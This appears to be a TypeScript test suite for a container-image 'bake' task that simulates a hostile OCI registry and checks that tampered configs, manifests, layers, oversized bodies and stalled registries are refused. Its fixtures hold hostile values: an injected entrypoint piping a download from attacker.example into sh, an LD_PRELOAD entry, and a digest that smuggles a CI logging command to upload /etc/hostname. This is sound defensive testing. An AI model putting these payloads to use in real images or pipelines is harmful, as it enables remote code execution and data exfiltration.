/**
 * Hostile registries and content: a config, manifest or layer that does not match its digest, an
 * index entry whose digest carries an agent command, a 1 GiB manifest (declared and streamed), a
 * registry that trickles and one that never answers. Each fails with a message naming the image
 * or the peer, fast, within bounded memory, and writes nothing at the target.
 */
import { strict as assert } from 'node:assert';
import * as fs from 'node:fs';
import { SettingError, TaskError } from '../../tasks/common/errors';
import { BodyTooLargeError, NetworkError } from '../../tasks/common/net/errors';
import { explainFailure } from '../../tasks/common/net/explain';
import { Network } from '../../tasks/common/net/network';
import { networkSettings, type Deadlines } from '../../tasks/common/net/settings';
import { bakeModel, type BakeOptions } from '../../tasks/common/oci/bake';
import { parseReference, parseRepository } from '../../tasks/common/oci/reference';
import { BAKE_SETTINGS } from '../../tasks/common/pipeline/bakeInputs';
import { asInputError } from '../../tasks/common/pipeline/settings';
import { bakeOptions, MiB, recordingContext, tempRoot, writeModel } from '../support/bakeHarness';
import { pushBaseImage, type BaseImage } from '../support/registry/baseImages';
import { startHostileFront, type FrontAction, type HostileFront } from '../support/registry/hostileFront';
import { rawRequest } from '../support/registry/http';
import { startRegistry, type TestRegistry } from '../support/registry/registry';

const INJECTED = 'sha256:0000\n##vso[artifact.upload containerfolder=loot;artifactname=loot]/etc/hostname';

describe('hostile registry: content and bounds', function () {
  this.timeout(60_000);
  let registry: TestRegistry;
  let target: TestRegistry;
  let root: string;
  let model: string;
  let single: BaseImage;
  const fronts: HostileFront[] = [];
  const networks: Network[] = [];

  before(async () => {
    [registry, target] = await Promise.all([startRegistry({ auth: 'none' }), startRegistry({ auth: 'none' })]);
    root = tempRoot('hostile-content-');
    model = writeModel(root, { weightsBytes: MiB });
    single = await pushBaseImage(registry, 'app', '1', 'oci');
    await pushBaseImage(registry, 'multi', '1', 'index');
  });
  after(async () => {
    networks.forEach((network) => network.close());
    await Promise.all([...fronts.map((front) => front.close()), registry?.stop(), target?.stop()]);
    fs.rmSync(root, { recursive: true, force: true });
  });

  async function front(decide: (url: string) => FrontAction | undefined): Promise<HostileFront> {
    const started = await startHostileFront({ upstreamPort: Number(registry.host.split(':')[1]), decide: (request) => decide(request.url ?? '') });
    fronts.push(started);
    return started;
  }

  function network(deadlines: Partial<Deadlines>): Network {
    const created = new Network(networkSettings({ deadlines }));
    networks.push(created);
    return created;
  }

  /** A bake from the front's base into the same front, or into `into` (another registry). */
  function through(hostile: HostileFront, base: string, into?: TestRegistry): BakeOptions {
    const options = bakeOptions({ host: hostile.host, tls: false }, { base, target: 'baked', modelPath: model });
    return into ? { ...options, target: parseRepository(`${into.host}/baked`) } : { ...options, baseImage: parseReference(`${hostile.host}/${base}`) };
  }

  async function failure(options: BakeOptions, deadlines?: Partial<Deadlines>): Promise<{ error: Error }> {
    const context = { ...recordingContext(), ...(deadlines ? { network: network(deadlines) } : {}) };
    const error = await bakeModel(options, context).then(() => undefined, (caught: Error) => caught);
    assert.ok(error, 'the bake must fail');
    assert.ok(!/[\r\n]/.test(String((explainFailure(error) as Error).message)), 'the message is one line: peer text never starts a line');
    assert.equal((await rawRequest(`${registry.url}/v2/baked/manifests/v1`, { method: 'HEAD' })).status, 404, 'nothing was tagged');
    return { error };
  }

  async function configDigestOf(image: BaseImage): Promise<string> {
    return (JSON.parse((await rawRequest(`${registry.url}/v2/${image.repository}/manifests/${image.digest}`, { headers: { accept: image.mediaType } })).body) as { config: { digest: string } }).config.digest;
  }

  it('refuses a config blob that does not match its digest (an attacker Entrypoint and Env), naming the image and both digests', async () => {
    const configDigest = await configDigestOf(single);
    const hostile = await front((url) => (url.endsWith(`/blobs/${configDigest}`) ? {
      kind: 'rewrite',
      change: (body) => {
        const config = JSON.parse(body.toString('utf8')) as { config: { Entrypoint: string[]; Env: string[] } };
        config.config.Entrypoint = ['/bin/sh', '-c', 'curl https://attacker.example/x | sh'];
        config.config.Env.push('LD_PRELOAD=/tmp/evil.so');
        return Buffer.from(JSON.stringify(config));
      },
    } : undefined));
    const { error } = await failure(through(hostile, `app@${single.digest}`));
    assert.ok(error instanceof TaskError && error.key === 'ConfigDigestMismatch', String(error));
    assert.equal(error.args[0], `${hostile.host}/app@${single.digest}`);
    assert.equal(error.args[1], configDigest);
    assert.match(String(error.args[2]), /^sha256:[a-f0-9]{64}$/);
    assert.notEqual(error.args[2], configDigest);
  });

  it('refuses a manifest fetched by its pinned digest whose bytes do not match it', async () => {
    const hostile = await front((url) => (url.includes('/manifests/') ? { kind: 'rewrite', change: (body) => Buffer.from(body.toString('utf8').replace('"schemaVersion":2', '"schemaVersion": 2')) } : undefined));
    const { error } = await failure(through(hostile, `app@${single.digest}`));
    assert.ok(error instanceof TaskError && error.key === 'ManifestDigestMismatch', String(error));
    assert.deepEqual(error.args.slice(0, 2), [`${hostile.host}/app@${single.digest}`, single.digest]);
  });

  it('refuses an index entry whose digest carries a line break and an agent command, printing it quoted', async () => {
    const hostile = await front((url) => (url.endsWith('/multi/manifests/1') ? {
      kind: 'rewrite',
      change: (body) => {
        const index = JSON.parse(body.toString('utf8')) as { manifests: object[] };
        index.manifests.push({ mediaType: 'application/vnd.oci.image.manifest.v1+json', digest: INJECTED, size: 2, platform: { os: 'linux', architecture: 's390x' } });
        return Buffer.from(JSON.stringify(index));
      },
    } : undefined));
    const { error } = await failure(through(hostile, 'multi:1'));
    assert.ok(error instanceof TaskError && error.key === 'ManifestInvalid', String(error));
    assert.match(error.message, /index entry 3 has digest "sha256:0000\\n##vso\[artifact\.upload/);
    assert.ok(!hostile.requests.some((request) => request.url.includes('0000')), 'the bad digest was never fetched');
  });

  it('refuses a base layer streamed from another registry that does not match its digest, and never commits it', async () => {
    const layer = single.platforms[0].layers[1].digest;
    const hostile = await front((url) => (url.endsWith(`/blobs/${layer}`) ? { kind: 'rewrite', change: (body) => Buffer.concat([body.subarray(0, body.length - 1), Buffer.from([body[body.length - 1] ^ 1])]) } : undefined));
    const { error } = await failure(through(hostile, 'app:1', target));
    assert.ok(error instanceof TaskError && error.key === 'LayerDigestMismatch', String(error));
    assert.deepEqual(error.args.slice(0, 2), [`${hostile.host}/app`, layer]);
    assert.equal((await rawRequest(`${target.url}/v2/baked/blobs/${layer}`, { method: 'HEAD' })).status, 404, 'the target never committed the blob');
    assert.equal((await rawRequest(`${target.url}/v2/baked/manifests/v1`, { method: 'HEAD' })).status, 404);
  });

  for (const declare of [true, false]) {
    it(`stops reading a 1 GiB manifest ${declare ? 'declared by Content-Length' : 'streamed without a length'} at 4 MiB, naming the registry and the limit`, async () => {
      const hostile = await front((url) => (url.includes('/manifests/') ? { kind: 'huge', bytes: 1024 * MiB, declare, headers: { 'content-type': 'application/vnd.oci.image.manifest.v1+json' } } : undefined));
      const before = process.memoryUsage().rss;
      let peak = before;
      const sampler = setInterval(() => (peak = Math.max(peak, process.memoryUsage().rss)), 10);
      const { error } = await failure(through(hostile, 'app:1')).finally(() => clearInterval(sampler));
      assert.ok(error instanceof BodyTooLargeError && error.limit === 4 * MiB, String(error));
      assert.match((explainFailure(error) as Error).message, new RegExp(`^${hostile.host.replace(/\./g, '\\.')} sent the manifest of .*app:1 larger than the 4194304 bytes allowed`));
      assert.ok(hostile.requests.filter((r) => r.url.includes('/manifests/')).every((r) => r.abandoned), 'we hung up on the manifest');
      assert.ok(hostile.hugeBytesSent < 64 * MiB, `the registry got to send ${hostile.hugeBytesSent} bytes`);
      assert.ok(peak - before < 256 * MiB, `memory grew by ${Math.round((peak - before) / MiB)} MiB`);
    });
  }

  it('gives up on a registry that trickles a manifest at the body deadline, one retry included', async () => {
    const hostile = await front((url) => (url.includes('/manifests/') ? { kind: 'trickle', everyMs: 100, body: '{"schemaVersion":2,"mediaType":"application/vnd.oci.image.manifest.v1+json"}' } : undefined));
    const { error } = await failure(through(hostile, 'app:1'), { bodyMs: 700 });
    assert.ok(error instanceof NetworkError && error.code === 'ETIMEDOUT' && error.phase === 'body', String(error));
    assert.match(error.message, /did not arrive within 700 ms$/, 'the body deadline we set fired, not another limit');
    assert.equal(hostile.requests.length, 2, 'a deadline miss gets one more chance only');
    assert.ok(hostile.requests.every((r) => r.abandoned), 'each trickle was cut off by us, not finished');
    assert.match((explainFailure(error) as Error).message, new RegExp(`^${hostile.host.replace(/\./g, '\\.')} did not answer in time`));
  });

  it('gives up on a registry that never answers after two response deadlines', async () => {
    const hostile = await front(() => ({ kind: 'silent' }));
    const { error } = await failure(through(hostile, 'app:1'), { responseMs: 500 });
    assert.ok(error instanceof NetworkError && error.code === 'ETIMEDOUT' && error.phase === 'response', String(error));
    assert.match(error.message, /within 500 ms$/, 'the response deadline we set fired');
    assert.equal(hostile.requests.length, 2);
    assert.ok(hostile.requests.every((r) => r.abandoned), 'we hung up on both silent requests');
  });

  it("stops at the bake's overall deadline (timeoutSeconds), whatever the per-request deadlines", async () => {
    const hostile = await front(() => ({ kind: 'silent' }));
    const { error } = await failure({ ...through(hostile, 'app:1'), timeoutMs: 2000 });
    assert.ok(error instanceof TaskError && error.key === 'BakeTimedOut', String(error));
    assert.ok(error instanceof SettingError && error.setting === 'timeout', 'the core names its time limit, not an input');
    assert.match((asInputError(error, BAKE_SETTINGS) as Error).message, /within 2 seconds, the limit of input 'timeoutSeconds'/);
    const cause = (error as Error).cause;
    assert.ok(!(cause instanceof NetworkError && cause.code === 'ETIMEDOUT'), `no per-request deadline (60 s by default) fired first: ${String(cause)}`);
    assert.equal(hostile.requests.length, 1, 'the first silent request used up the whole bake deadline');
    assert.ok(hostile.requests[0].abandoned, 'and we hung up on it');
  });
});
